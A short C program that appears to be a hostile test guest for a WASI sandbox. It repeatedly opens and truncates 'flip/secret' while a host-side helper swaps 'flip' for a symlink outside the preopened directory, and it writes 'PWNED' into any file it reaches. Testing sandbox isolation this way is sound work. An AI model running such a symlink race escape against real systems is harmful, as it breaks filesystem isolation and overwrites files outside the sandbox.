// callgate-build: command -Wno-unused-result
/*
 * escape_race — hostile, with a host-side accomplice: opens "flip/secret" for
 * write + truncate in a loop while the host swaps "flip" between a real directory
 * and a symlink to a directory outside the preopen (fd 3).
 *
 *   escape_race N       prints "opened <k> denied <m>"; every open that succeeded wrote
 *                       "PWNED" into whatever it opened
 */
#include <stdio.h>
#include <stdlib.h>
#include <wasi/api.h>

int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 1000;
    int opened = 0, denied = 0;
    for (int i = 0; i < n; i++) {
        __wasi_fd_t fd;
        __wasi_errno_t e = __wasi_path_open(3, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, "flip/secret",
                                            __WASI_OFLAGS_TRUNC, __WASI_RIGHTS_FD_WRITE, 0, 0,
                                            &fd);
        if (e == 0) {
            __wasi_ciovec_t iov = {(const uint8_t *)"PWNED", 5};
            __wasi_size_t w;
            __wasi_fd_write(fd, &iov, 1, &w);
            __wasi_fd_close(fd);
            opened++;
        } else {
            denied++;
        }
    }
    printf("opened %d denied %d\n", opened, denied);
    return 0;
}
